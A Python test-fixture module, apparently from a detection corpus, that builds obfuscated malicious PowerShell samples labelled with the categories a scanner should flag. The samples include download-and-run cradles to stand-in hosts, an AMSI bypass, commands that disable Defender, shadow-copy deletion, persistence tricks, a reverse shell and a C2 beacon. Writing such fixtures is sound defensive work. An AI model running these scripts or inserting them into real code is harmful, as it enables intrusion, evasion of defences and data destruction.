"""PowerShell scripts that act badly, disguised in the ways that are common."""

from __future__ import annotations

import base64
import gzip
import zlib

from tools.corpus.detections.case import Case, script
from tools.corpus.detections.collected import scripts


def _encoded(code: str) -> str:
    return base64.b64encode(code.encode("utf-16-le")).decode()


def _deflated(code: str) -> str:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return base64.b64encode(packer.compress(code.encode()) + packer.flush()).decode()


def _gzipped(code: str) -> str:
    return base64.b64encode(gzip.compress(code.encode(), mtime=0)).decode()


def _xored(code: str, key: int) -> str:
    return ",".join(str(ord(char) ^ key) for char in code)


_FETCH = "IEX (New-Object Net.WebClient).DownloadString('http://cdn.example/stage')"
_DROP = (
    '$p = "$env:TEMP\\svchost.exe"; (New-Object Net.WebClient).DownloadFile('
    "'http://cdn.example/a.exe', $p); Start-Process $p"
)

POWERSHELL_BAD: tuple[Case, ...] = (
    script(
        "encoded.ps1",
        "powershell",
        f"powershell.exe -NoP -NonI -W Hidden -Enc {_encoded(_FETCH)}",
        "runs-code-from-network",
    ),
    script(
        "format-operator.ps1",
        "powershell",
        """$a = ("{2}{0}{1}" -f 'bCl','ient','Net.We')
$u = ('ht'+'tp'+':/'+'/pay.exa' + 'mple/inv' + [char]46 + 'exe')
${wc} = &("{1}{0}{2}" -f 'w-Ob','Ne','ject') $a
$t = [Environment]::GetFolderPath('ApplicationData') + '\\up' + 'date.exe'
${wc}."DownloadFile"($u, $t)
& $t
""",
        "windows-download-and-run",
    ),
    script(
        "deflate.ps1",
        "powershell",
        f"""$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('{_deflated(_DROP)}'))
$d = New-Object IO.Compression.DeflateStream($s, [IO.Compression.CompressionMode]::Decompress)
(New-Object IO.StreamReader($d, [Text.Encoding]::ASCII)).ReadToEnd() | & ($PSHome[4]+$PSHome[30]+'x')
""",
        "windows-download-and-run",
    ),
    script(
        "gzip-stream.ps1",
        "powershell",
        f"""$b = [System.Convert]::FromBase64String("{_gzipped(_FETCH)}")
$in = New-Object System.IO.MemoryStream
$in.Write($b, 0, $b.Length)
$null = $in.Seek(0, 0)
$sr = New-Object System.IO.StreamReader(New-Object System.IO.Compression.GZipStream($in, [System.IO.Compression.CompressionMode]::Decompress))
.( $env:ComSpec[4,24,25]-join'') ($sr.ReadToEnd())
""",
        "runs-code-from-network",
    ),
    script(
        "xor-array.ps1",
        "powershell",
        f"""$k = 35
$o = ''
foreach ($c in @({_xored(_FETCH, 35)})) {{ $o += [char]($c -bxor $k) }}
Set-Alias go Invoke-Expression
go $o
""",
        "runs-code-from-network",
    ),
    script(
        "reversed.ps1",
        "powershell",
        f"""$r = '{_FETCH.replace("'", "''")[::-1].replace("''", "''")}'
$c = $r.ToCharArray(); [Array]::Reverse($c)
i`E`x (-join $c)
""",
        "runs-code-from-network",
    ),
    script(
        "amsi.ps1",
        "powershell",
        """[Ref].Assembly.GetType('System.Management.Automation.'+'Am'+'siUtils').GetField('am'+'siInit'+'Failed','NonPublic,Static').SetValue($null,$true)
iwr http://cdn.example/next.txt -UseBasicParsing | iex
""",
        "amsi-bypass",
    ),
    script(
        "defender.ps1",
        "powershell",
        """$off = @{ DisableRealtimeMonitoring = $true; DisableIOAVProtection = $true }
Set-MpPreference -DisableRealtimeMonitoring $true
Add-MpPreference -ExclusionPath "$env:ProgramData"
Stop-Service -Name WinDefend -Force
""",
        "cmdlet-disables-defences",
    ),
    script(
        "run-key.ps1",
        "powershell",
        f"""$n = 'Up'+'dater'
$v = 'powershell -w hidden -e {_encoded("Write-Host x" * 3)}'
Set-ItemProperty -Path ('HK'+'CU:\\Software\\Microsoft\\Windows\\CurrentVersion\\R'+'un') -Name $n -Value $v
""",
        "registry-autostart",
    ),
    script(
        "task.ps1",
        "powershell",
        """$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-WindowStyle Hidden -File C:\\Users\\Public\\u.ps1'
$t = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'Sync' -Action $a -Trigger $t
""",
        "task-with-shell",
    ),
    script(
        "shadow-copies.ps1",
        "powershell",
        """Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }
& ('vss'+'admin') delete shadows /all /quiet
""",
        "deletes-shadow-copies",
    ),
    script(
        "assembly.ps1",
        "powershell",
        f"""$b = [Convert]::FromBase64String('{base64.b64encode(b"MZ" + bytes(300)).decode()}')
$asm = [Reflection.Assembly]::Load($b)
$asm.EntryPoint.Invoke($null, @(,[string[]]@()))
""",
        "program-in-memory",
    ),
    script(
        "remote-shell.ps1",
        "powershell",
        """$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444)
$stream = $client.GetStream(); [byte[]]$bytes = 0..65535|%{0}
while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){
  $data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i)
  $sendback = (iex $data 2>&1 | Out-String )
  $sendbyte = ([text.encoding]::ASCII).GetBytes($sendback + 'PS> ')
  $stream.Write($sendbyte,0,$sendbyte.Length); $stream.Flush() }
$client.Close()
""",
        "remote-shell",
    ),
    script(
        "beacon.ps1",
        "powershell",
        """$id = $env:COMPUTERNAME
while ($true) {
  try {
    $cmd = Invoke-RestMethod -Uri "https://c2.example/tasks/$id" -Method Post -Body @{ user = $env:USERNAME }
    if ($cmd) { Invoke-Expression $cmd }
  } catch { }
  Start-Sleep -Seconds 30
}
""",
        "beacons-and-obeys",
    ),
    script(
        "certutil.ps1",
        "powershell",
        """$x = 'cert' + 'util'
& $x -urlcache -split -f http://files.example/p.txt $env:TEMP\\p.exe
Start-Process -WindowStyle Hidden "$env:TEMP\\p.exe"
""",
        "shell-downloads",
    ),
    script(
        "split-join.ps1",
        "powershell",
        """$j = 'DAhttp:DA//dropDA.example/x.psDA1' -split 'DA' -join ''
$m = 'Dow','nload','String' -join ''
$w = New-Object ('Net.'+'WebClient')
$code = $w.$m($j)
[ScriptBlock]::Create($code).Invoke()
. ([scriptblock]::Create($w.$m.Invoke($j)))
&([scriptblock]::Create(('I'+'EX ''whoami /priv''')))
""",
        "runs-code-from-network",
    ),
    script(
        "shellcode.ps1",
        "powershell",
        """$code = @'
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint b, uint c, uint d);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint b, IntPtr c, IntPtr d, uint e, IntPtr f);
'@
$w = Add-Type -MemberDefinition $code -Name 'W' -Namespace N -PassThru
$w::VirtualAlloc(0, 4096, 0x3000, 0x40)
""",
        "native-memory-code",
    ),
    *scripts("powershell_bad"),
)
